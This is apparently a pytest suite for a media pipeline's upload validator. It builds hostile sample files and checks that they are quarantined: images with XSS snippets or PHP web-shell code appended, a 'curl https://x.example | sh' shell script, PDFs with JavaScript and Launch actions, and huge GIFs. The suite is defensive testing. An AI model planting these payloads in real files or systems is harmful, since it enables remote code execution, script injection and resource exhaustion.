"""Issue 11, item 9, against the embedded S3 server: files that cost too much to inspect
(millions of GIF frames, wide 16-bit pixels) or hide something (HTML, a script or a ZIP after the
image; JavaScript or a launch action in a PDF) are quarantined, by uploads and the pipeline
alike, without decoding more than the limits allow."""

from __future__ import annotations

import io
import struct
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    RectangleObject,
    TextStringObject,
)

from media_pipeline.catalog import Catalog
from media_pipeline.fingerprint.reader import fingerprint_object
from media_pipeline.fingerprint.structure import gif_frames
from media_pipeline.library import MediaLibrary, MediaUnavailable, ValidationFailed
from media_pipeline.records import media_id_for
from media_pipeline.settings import Settings
from media_pipeline.stages import ingest_keys
from media_pipeline_tests.app_fixtures import bucket_keys, jpeg_bytes, png_bytes
from media_pipeline_tests.fixtures_s3 import upload


def many_frame_gif(frames: int) -> bytes:
    """A 1x1 GIF with ``frames`` frames (23 bytes each)."""
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    head += b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = (b"!\xf9\x04\x00\x01\x00\x00\x00" + b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
             + b"\x02\x02\x44\x01\x00")
    return head + frame * frames + b";"


def stray_byte_gif(frames: int, after: int = 1, stray: bytes = b"\x00") -> bytes:
    """The hostile review's generator (issue 11, finding 4): a byte that starts no block after
    frame ``after``; Pillow skips it and decodes every frame."""
    one = many_frame_gif(1)
    head, frame = one[:one.index(b"!\xf9")], one[one.index(b"!\xf9"):-1]
    return head + frame * after + stray + frame * (frames - after) + b";"


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", "alert(document.domain)")
    return out.getvalue()


def pdf_with(action: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if action == "openaction-js":
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)")})
    elif action == "launch-link":
        link = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): RectangleObject([0, 0, 100, 100]),
            NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                                NameObject("/F"): TextStringObject("calc.exe")})})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


MP4_HEAD = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 40
# A motion photo's MP4 of 6 MiB: ftyp, then an mdat of (seeded) random "video" data.
_VIDEO = np.random.default_rng(11).integers(0, 256, 6 * 1024 * 1024, dtype=np.uint8).tobytes()
MOTION_MP4 = (MP4_HEAD[:24] + struct.pack(">I", 8 + len(b"moov")) + b"free" + b"moov"
              + struct.pack(">I", 8 + len(_VIDEO)) + b"mdat" + _VIDEO)
HTML = b"<html><body><script>alert(document.domain)</script></body></html>"

HOSTILE = {
    "jpeg-html.jpg": (jpeg_bytes(seed=1) + HTML,
                      "image/jpeg has trailing data after the image: text/html"),
    "jpeg-zip.jpg": (jpeg_bytes(seed=2) + zip_bytes(),
                     "image/jpeg has trailing data after the image: application/zip"),
    "png-script.png": (png_bytes(seed=3) + b"#!/bin/sh\ncurl https://x.example | sh\n",
                       "image/png has trailing data after the image: text/x-shellscript"),
    "png-junk-html.png": (png_bytes(seed=4) + b"\x13\x37junk " * 20 + HTML,
                          "image/png has trailing data after the image: HTML markup"),
    "gif-frames.gif": (many_frame_gif(1001), "animation has over 1000 frames (limit 1000)"),
    # Hostile review of issue 11, findings 3 and 4.
    "jpeg-zip-padded.jpg": (jpeg_bytes(seed=7) + b"\x01" * 100 + zip_bytes() + b"\x00" * 70_000,
                            "image/jpeg has trailing data after the image: application/zip"),
    "jpeg-img-onerror.jpg": (jpeg_bytes(seed=8) + b"\n<img src=x onerror=alert(1)>\n",
                             "image/jpeg has trailing data after the image: HTML markup"),
    "jpeg-details.jpg": (jpeg_bytes(seed=9) + b"\n<details open ontoggle=alert(1)>\n",
                         "image/jpeg has trailing data after the image: HTML markup"),
    "jpeg-meta-refresh.jpg": (
        jpeg_bytes(seed=10) + b"<meta http-equiv=refresh content='0;url=https://x.example'>",
        "image/jpeg has trailing data after the image: HTML markup"),
    "jpeg-php-short.jpg": (jpeg_bytes(seed=11) + b"<?= system($_GET['c']); ?>",
                           "image/jpeg has trailing data after the image: HTML markup"),
    "jpeg-html-after-4mb.jpg": (
        jpeg_bytes(seed=12) + b"\x01" * (4 * 1024 * 1024 + 10) + b"<script>alert(1)</script>",
        "image/jpeg has trailing data after the image: HTML markup"),
    "mp4-then-html.jpg": (jpeg_bytes(seed=13) + MP4_HEAD[:24] + b"<img src=x onerror=alert(1)>",
                          "image/jpeg has trailing data after the image: HTML markup"),
    "mpf-then-php.jpg": (jpeg_bytes(seed=16) + jpeg_bytes(seed=17) + b"<?= `id` ?>",
                         "image/jpeg has trailing data after the image: HTML markup"),
    "gif-stray-byte.gif": (stray_byte_gif(200_000),
                           "animation has over 1000 frames (limit 1000)"),
    "openaction.pdf": (pdf_with("openaction-js"), "PDF has a JavaScript action"),
    "launch.pdf": (pdf_with("launch-link"), "PDF has a Launch action"),
}
BENIGN = {
    "motion-photo.jpg": jpeg_bytes(seed=5) + MP4_HEAD,
    "padded.jpg": jpeg_bytes(seed=6) + b"\x00" * 512,
    "mpf.jpg": jpeg_bytes(seed=18) + jpeg_bytes(seed=19) + b"\x00" * 100,
    "long-padding.jpg": jpeg_bytes(seed=14) + b"\x00" * 200_000,
    "long-motion-photo.jpg": jpeg_bytes(seed=15) + MOTION_MP4 + b"\x00" * 1000,
    "two-frames.gif": many_frame_gif(2),
    "clean.pdf": pdf_with("none"),
}


def row(settings: Settings, key: str) -> dict[str, Any]:
    with Catalog.open(settings.catalog_location) as catalog:
        found = catalog.application.media_row(media_id_for(settings.bucket, key))
    assert found is not None
    return found


def test_hostile_files_are_refused_on_upload_and_quarantined_in_the_pipeline(
        settings: Settings, s3_client: Any) -> None:
    lib = MediaLibrary(settings, s3_client)
    lib.create_namespace("site", "alice")
    for name, (data, reason) in HOSTILE.items():
        with pytest.raises(ValidationFailed) as refused:
            lib.upload("site", io.BytesIO(data), name, "alice")
        assert refused.value.reason == reason, name
    assert bucket_keys(s3_client, settings.bucket) == []

    keys = [f"site/{name}" for name in [*HOSTILE, *BENIGN]]
    for key, data in zip(keys, [d for d, _ in HOSTILE.values()] + list(BENIGN.values()),
                         strict=True):
        s3_client.put_object(Bucket=settings.bucket, Key=key, Body=data)
    ingest_keys(settings, keys, s3_client)
    for name, (_data, reason) in HOSTILE.items():
        found = row(settings, f"site/{name}")
        assert (found["status"], found["quarantine_reason"]) == ("quarantined", reason), name
        with pytest.raises(MediaUnavailable, match="quarantined"):
            lib.url(found["media_id"], "alice")
    for name in BENIGN:
        found = row(settings, f"site/{name}")
        assert (found["status"], found["quarantine_reason"]) == ("active", None), name


def test_gif_frames_are_counted_the_way_pillow_reads_them() -> None:
    for data in (stray_byte_gif(5), stray_byte_gif(5, after=3, stray=b"x"),
                 stray_byte_gif(5, after=0, stray=b"\x00" * 70_000)):
        with Image.open(io.BytesIO(data)) as image:
            pillow = image.n_frames
        assert gif_frames(io.BytesIO(data), 1000) == (pillow, len(data)) == (5, len(data))


def test_pdf_scripts_may_be_allowed(settings: Settings, s3_client: Any) -> None:
    allowed = replace(settings, allow_pdf_scripts=True)
    for name in ("openaction.pdf", "launch.pdf"):
        obj = upload(s3_client, allowed, f"docs/{name}", HOSTILE[name][0], "application/pdf")
        result = fingerprint_object(s3_client, obj, allowed)
        assert (result.status, result.page_count) == ("active", 1), name


def test_millions_of_gif_frames_are_counted_to_the_limit_only(
        settings: Settings, s3_client: Any) -> None:
    data = many_frame_gif(2_000_000)  # 46 MB of 1x1 frames
    result = fingerprint_object(
        s3_client, upload(s3_client, settings, "site/anim.gif", data, "image/gif"), settings)
    assert result.quarantine_reason == "animation has over 1000 frames (limit 1000)"
    assert result.metadata["frames"] == 1001 and result.phash is None


@pytest.fixture(scope="module")
def wide_png(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """7000 x 7000 pixels of 16-bit grey: 49 megapixels, 93.5 MiB once decoded, 100 KB stored."""
    pixels = np.zeros((7000, 7000), dtype=np.uint16)
    pixels[::7, ::3] = 65535
    path = tmp_path_factory.mktemp("wide") / "wide16.png"
    Image.fromarray(pixels).save(path, compress_level=1)
    return path


def test_decode_memory_is_bounded_in_bytes(settings: Settings, s3_client: Any,
                                          wide_png: Path) -> None:
    small = replace(settings, max_decode_bytes=64 * 1024 * 1024)
    obj = upload(s3_client, small, "site/wide16.png", wide_png.read_bytes(), "image/png")
    result = fingerprint_object(s3_client, obj, small)
    assert result.quarantine_reason == "image needs 93.5 MiB to decode (limit 64.0 MiB)"
    assert result.phash is None


def test_a_wide_png_within_the_limits_is_hashed_without_big_copies(wide_png: Path) -> None:
    # In a process of its own, so its peak memory is this image's alone.
    probe = (
        "import resource, sys\n"
        "from media_pipeline.fingerprint.metadata import inspect_image\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        f"with open({str(wide_png)!r}, 'rb') as fp:\n"
        "    info = inspect_image(fp)\n"
        "after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "print(info.decode_error, info.phash is not None, info.decode_bytes, after - before)\n")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          check=True)
    error, hashed, decode_bytes, rise_kib = done.stdout.split()
    assert (error, hashed, int(decode_bytes)) == ("None", "True", 7000 * 7000 * 2)
    assert int(rise_kib) < 300 * 1024  # the decode's 93.5 MiB and small change, not ~1 GB
